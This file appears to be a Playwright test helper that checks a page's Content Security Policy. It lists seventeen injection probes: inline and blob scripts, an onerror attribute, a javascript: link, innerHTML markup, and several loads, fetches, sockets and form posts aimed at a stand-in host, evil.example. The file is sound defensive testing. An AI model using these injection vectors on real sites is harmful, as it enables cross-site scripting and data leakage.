import type { Page } from '@playwright/test';

/** One way of getting script or content into the page. It sets `injected` if it works; the policy must stop it and say so (reliability A5, A6). */
export type Probe = readonly [name: string, inject: () => void];

/** The probes; each runs inside the page, as a hostile text that reached the DOM would. Some throw: that is the policy, too. */
export const injectionProbes: readonly Probe[] = [
  ['an inline script', () => {
    const script = document.createElement('script');
    script.append('globalThis.injected = 1');
    document.head.append(script);
  }],
  ['a script of another site', () => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js';
    document.head.append(script);
  }],
  ['script in an event attribute', () => {
    const image = document.createElement('img');
    image.setAttribute('onerror', 'globalThis.injected = 1');
    image.src = 'data:,x';
    document.body.append(image);
  }],
  ['a javascript: address', () => {
    const link = document.createElement('a');
    link.href = 'javascript:globalThis.injected = 1';
    document.body.append(link);
    link.click();
  }],
  ['a script from a blob', () => {
    const script = document.createElement('script');
    const url = URL.createObjectURL(new Blob(['globalThis.injected = 1'], { type: 'text/javascript' }));
    script.src = url;
    document.head.append(script);
  }],
  ['markup by innerHTML', () => {
    const box = document.createElement('div');
    box['innerHTML' as 'textContent'] = '<img src=x onerror="globalThis.injected = 1">';
    document.body.append(box);
  }],
  ['a worker from a blob', () => {
    new Worker(URL.createObjectURL(new Blob(['1'])));
  }],
  ['an image of another site', () => {
    const image = new Image();
    image.src = 'https://evil.example/pixel.png';
    document.body.append(image);
  }],
  ['a style sheet of another site', () => {
    const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' });
    document.head.append(link);
  }],
  ['an inline style sheet', () => {
    const style = document.createElement('style');
    style.append('body { background: url(https://evil.example/x.png) }');
    document.head.append(style);
  }],
  ['a web socket', () => {
    new WebSocket('wss://evil.example/');
  }],
  ['a request to another site', () => {
    fetch('https://evil.example/').catch(() => {});
  }],
  ['a base address', () => {
    const base = Object.assign(document.createElement('base'), { href: 'https://evil.example/' });
    document.head.append(base);
  }],
  ['a form', () => {
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
    document.body.append(form);
    form.submit();
  }],
  ['a frame', () => {
    const frame = Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' });
    document.body.append(frame);
  }],
  ['an object', () => {
    const plugin = Object.assign(document.createElement('object'), { data: 'https://evil.example/x.swf' });
    document.body.append(plugin);
  }],
  ['a policy of another name', () => {
    const types = Reflect.get(globalThis, 'trustedTypes') as { readonly createPolicy: (name: string, rules: object) => unknown };
    types.createPolicy('evil', {});
  }],
];

/** Starts to collect the page's policy violations; gives the way to read them, as `directive blocked-address`. */
export async function watchViolations(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.evaluate(() => {
    const seen: string[] = [];
    Reflect.set(globalThis, 'seenViolations', seen);
    document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
  });
  return () => page.evaluate(() => Reflect.get(globalThis, 'seenViolations') as readonly string[]);
}

/** Runs a probe in the page. */
export const inject = (page: Page, probe: () => void): Promise<void> => page.evaluate(probe).catch(() => {});
